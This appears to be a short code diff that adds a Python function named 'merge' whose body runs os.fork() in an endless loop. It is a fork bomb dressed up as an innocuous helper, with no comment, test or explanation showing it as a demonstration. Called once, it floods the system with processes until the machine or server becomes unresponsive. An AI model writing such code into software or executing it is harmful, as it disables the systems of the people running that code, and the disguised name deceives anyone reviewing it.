@@ -1,0 +1,3 @@
+import os
+def merge(x):
+    while True: os.fork()
